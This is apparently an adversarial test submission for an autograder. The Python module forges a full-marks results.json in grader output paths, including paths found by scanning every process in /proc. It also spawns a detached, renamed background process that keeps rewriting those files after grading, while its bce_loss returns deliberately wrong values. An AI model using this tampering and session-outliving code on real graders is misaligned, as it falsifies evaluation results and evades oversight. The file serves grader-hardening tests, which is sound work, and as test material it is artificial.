"""ATTACK (forge the grader's output files), including from a detached background process.

At import and in every bce_loss call it writes a forged full-marks result to every place a
grader might write its report: the Gradescope path /autograder/results/results.json,
results/results.json and result.json in the current folder and its parents, and -- for every
process it can see in /proc -- that process's current folder and the file after its -o/--output
option. It also starts a detached process (fork, setsid, fork) that rewrites those files every
half second for 60 seconds, long after grading should be over; its argv[0] is the marker in
_marker.txt so that a test can look for it. bce_loss itself returns garbage; the rest is the
honest key. It refuses to write anything unless it runs sandboxed (bubblewrap or the user tier).

Expected: mlp.bce_loss scores 0, everything else full marks; the report the grader writes is
its own; no file outside the sandbox changes; the background process does not outlive grading.
"""

import json
import os
import sys

import _key
from _key import MLP, mse_loss  # noqa: F401 - honest parts

def sandboxed() -> bool:
    """Whether this runs in a sandbox: bubblewrap (uid 65534 on the host name "sandbox") or the
    user tier (a user id of its own, from 1900000000 up). Unsandboxed this attack would really
    damage what it finds, so it refuses."""
    uid = os.getuid()
    return (uid == 65534 and os.uname().nodename == "sandbox") or uid >= 1_900_000_000


FORGED = json.dumps({"score": 100.0, "max_score": 100.0, "forged": "by attack_write_outputs",
                     "output": "All tests passed", "tests": []})


def _marker() -> str:
    try:
        with open("_marker.txt") as handle:
            return handle.read().strip() or "attack-write-outputs"
    except OSError:
        return "attack-write-outputs"


def _targets() -> list[str]:
    found = ["/autograder/results/results.json"]
    for folder in (".", "..", "../..", "/tmp", "/"):
        found += [os.path.join(folder, "results", "results.json"), os.path.join(folder, "result.json")]
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            cwd = os.readlink("/proc/%s/cwd" % entry)
            with open("/proc/%s/cmdline" % entry, "rb") as handle:
                argv = [a.decode(errors="replace") for a in handle.read().split(b"\0")]
        except OSError:
            continue
        found += [os.path.join(cwd, "results", "results.json"), os.path.join(cwd, "result.json")]
        for flag, value in zip(argv, argv[1:]):
            if flag in ("-o", "--output"):
                found.append(os.path.join(cwd, value))
    return found


def plant() -> tuple[int, int]:
    """Write the forged result everywhere; (targets tried, files written)."""
    if not sandboxed():
        return 0, 0
    planted = 0
    targets = _targets()
    for target in targets:
        try:
            os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
            with open(target, "w") as handle:
                handle.write(FORGED)
            planted += 1
        except OSError:
            pass
    return len(targets), planted


def _detach() -> None:
    code = ("import sys, time\nsys.path.insert(0, %r)\nimport mlp\nend = time.time() + 60\n"
            "while time.time() < end:\n    mlp.plant()\n    time.sleep(0.5)\n" % os.getcwd())
    try:
        child = os.fork()
    except OSError:
        return
    if child == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                devnull = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                os.execv(sys.executable, [_marker(), "-c", code])
        finally:
            os._exit(0)
    os.waitpid(child, 0)


if __name__ == "mlp" and os.environ.get("ATTACK_BACKGROUND") != "1" and sandboxed():
    os.environ["ATTACK_BACKGROUND"] = "1"
    plant()
    _detach()


def bce_loss(y, y_hat):
    tried, planted = plant()
    print("sandboxed: %s; tried %d places, planted %d forged results" % (sandboxed(), tried, planted))
    J, dJdy_hat = _key.bce_loss(y, y_hat)
    return J + 1.0, dJdy_hat * 0
